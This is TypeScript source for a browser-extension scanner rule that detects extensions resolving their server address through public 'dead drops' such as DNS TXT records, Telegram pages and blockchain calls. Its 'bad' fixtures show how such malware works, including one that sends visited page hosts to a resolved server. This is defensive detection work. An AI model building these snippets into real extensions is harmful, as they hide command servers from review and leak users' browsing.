import { type ScriptFacts, scriptsOf } from '../../facts/javascript/query.ts';
import type { Facts } from '../../facts.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts } from './checkScripts.ts';
import { listenersOf } from './listeners.ts';
import { serverDataOf } from '../../extension/serverData.ts';
import { kept } from '../../program/kept.ts';
import type { Source } from '../../taint/spec.ts';
import { isAnswerTo } from './isFromKnownServer.ts';
import { hostOf } from './hostOf.ts';
import { mentions } from './textsOf.ts';
import { requestsOf, type Request } from './requestsOf.ts';
import { isMadeBy, textsIn } from '../../program/madeOf.ts';
import { callsWithin } from '../../program/callsWithin.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';

/** Public places in which anybody can leave a text. */
const PLACES =
  /\/\/(?:(?:[\w-]+\.)?cloudflare-dns\.com\/|dns\.google\/|dns\.quad9\.net|doh\.[\w.-]+\/|[^/]+\/dns-query|t\.me\/|telegra\.ph\/|api\.telegra\.ph\/|pastebin\.com\/|paste\.ee\/|rentry\.co\/|hastebin\.com\/|gist\.github(?:usercontent)?\.com\/|api\.github\.com\/gists|docs\.google\.com\/(?:spreadsheets|document|forms|presentation)|sheets\.googleapis\.com\/|(?:www\.)?steamcommunity\.com\/|(?:www\.)?youtube\.com\/(?:watch|channel|@)|(?:mobile\.)?(?:twitter|x)\.com\/|[\w.-]*mastodon[\w.-]*\/|[\w-]+\.blogspot\.com\/|calendar\.(?:app\.)?google|blockchain\.info\/|mempool\.space\/|blockstream\.info\/|api\.etherscan\.io\/|api\.blockcypher\.com\/)/i;
/** Questions to a node of a blockchain. */
const CHAIN =
  /^(eth_call|eth_getStorageAt|eth_getTransactionByHash|eth_getLogs|getTransaction|getSignaturesForAddress|getAccountInfo|sui_getObject|sui_getTransactionBlock)$/;
/** Values of the largest script that is looked at. */
const MOST_VALUES = 60_000;
const CHAIN_HINT = /eth_|getTransaction|getSignaturesForAddress|getAccountInfo|sui_get/;

export const deadDropAddress = defineRule({
  id: 'dead-drop-address',
  title: 'Looks up its server’s address in a public place (dead drop)',
  severity: 'medium',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1102/001/'],
  why: 'An address kept in a DNS record, a post or a blockchain can be changed after the last one was blocked. No review and no permission list shows it.',
  remedy: 'Put your servers’ addresses in the package.',
  check: checkScripts(function* ({ script, facts, hit }) {
    if (script.stats.values > MOST_VALUES) return;
    if (!facts.whole(asksDrops)) return;
    const data = facts.whole(serverDataOf);
    const clicked = new Set(
      listenersOf(script, 'click', 'submit', 'change').flatMap(({ fn }) =>
        callsWithin(script, fn).map((call) => call.value),
      ),
    );
    for (const request of first(requestsOf(script), 200)) {
      // What the person asked for may well lead on: the picture of a token, a document of a list.
      if (clicked.has(request.value)) continue;
      if (request.address === 0 || hostOf(request.to) !== undefined || !/^(?:(?:https?|wss?):\/\/)?\*/.test(request.to))
        continue;
      const drop = dropAmong([...data.fresh(script, request.address), ...data.messaged(script, request.address)]);
      if (drop === undefined && dropAmong(data.kept(script, request.address)) === undefined) continue;
      const decoded = isMadeBy(script, request.address, /^(?:atob|String\.fromCharCode|TextDecoder(?:\(\)\.decode)?)$/);
      yield hit(request.value, {
        ...(decoded || drop === undefined ? { severity: 'high' as const } : {}),
        message:
          drop === undefined
            ? say('address-from-public-place')
            : say(decoded ? 'address-answered-decoded' : 'address-answered', hostOf(drop.to) ?? say('blockchain-node')),
      });
      return;
    }
  }),
  examples: {
    bad: [
      backgroundExample(
        'const txt = async (n) => { const r = await fetch(`https://cloudflare-dns.com/dns-query?name=${n}&type=TXT`, { headers: { accept: "application/dns-json" } }); const { Answer } = await r.json(); return Answer[0].data; }; (async () => { const home = atob(await txt("cfg.x.example")); const j = await (await fetch(home + "/q")).json(); use(j); })();',
      ),
      backgroundExample(
        '(async () => { const page = await (await fetch("https://t.me/s/somenews")).text(); const host = /~([^~]+)~/.exec(page)[1]; navigator.sendBeacon("https://" + host + "/f", "1"); })();',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
          'bg.js':
            'chrome.alarms.onAlarm.addListener(async () => { const r = await fetch("https://rpc.chain.example/", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", method: "eth_call", params: [{ to: "0x1" }, "latest"] }) }); const { result } = await r.json(); let s = ""; for (let i = 2; i < result.length; i += 2) s += String.fromCharCode(parseInt(result.substr(i, 2), 16)); chrome.storage.local.set({ srv: s }); });',
          'c.js':
            'chrome.storage.local.get("srv", async ({ srv }) => { const t = await (await fetch(srv + "/i?h=" + location.host)).text(); use(t); });',
        },
      },
    ],
    good: [
      backgroundExample(
        'show.onclick = async () => { const r = await fetch("https://rpc.chain.example", { method: "POST", body: JSON.stringify({ method: "eth_call", params: [{ to: box.value }] }) }); const { result } = await r.json(); const meta = await (await fetch(decodeURIComponent(result.slice(130).replace(/../g, "%$&")))).json(); img.src = meta.image; };',
      ),
      backgroundExample(
        '(async () => { const r = await fetch("https://cloudflare-dns.com/dns-query?name=a.example&type=A"); const { Answer } = await r.json(); chrome.action.setBadgeText({ text: Answer[0].data }); fetch("https://tool.example/ping"); })();',
      ),
      backgroundExample(
        '(async () => { const { upload } = await (await fetch("https://api.tool.example/session")).json(); await fetch(upload, { method: "PUT", body: "x" }); })();',
      ),
      backgroundExample(
        '(async () => { const r = await (await fetch("https://docs.google.com/spreadsheets/d/e/x/pub?output=csv")).text(); chrome.storage.local.set({ rows: r.split("\\n").length }); fetch(chrome.runtime.getURL("a.json")); })();',
      ),
    ],
  },
});

/** Requests that ask a public place or a blockchain. */
const dropsOf = kept((script: ScriptFacts): readonly Request[] => {
  const requests = first(requestsOf(script), 200);
  // The cheap questions first: most scripts know all hosts that they talk to.
  const places = requests.filter((request) => PLACES.test(request.to));
  if (places.length > 0 || !requests.some((request) => request.sent.length > 1) || !mentions(script, CHAIN_HINT))
    return places;
  return requests.filter((request) =>
    request.sent.some((value) => value !== request.address && asksChain(script, value)),
  );
});

function asksChain(script: ScriptFacts, value: number): boolean {
  return textsIn(script, value).some((text) => CHAIN.test(text));
}

/** The request for such a place that one of these is the answer of. */
function dropAmong(answers: readonly Source[]): Request | undefined {
  for (const { unit, shown } of answers)
    for (const drop of dropsOf(unit.script)) if (isAnswerTo(unit.script, shown, drop.value)) return drop;
  return undefined;
}

/** Whether some script asks such a place. */
const asksDrops = (facts: Facts): boolean =>
  scriptsOf(facts).some(
    ({ file, script }) => !file.traits.vendored && script.stats.values <= MOST_VALUES && dropsOf(script).length > 0,
  );
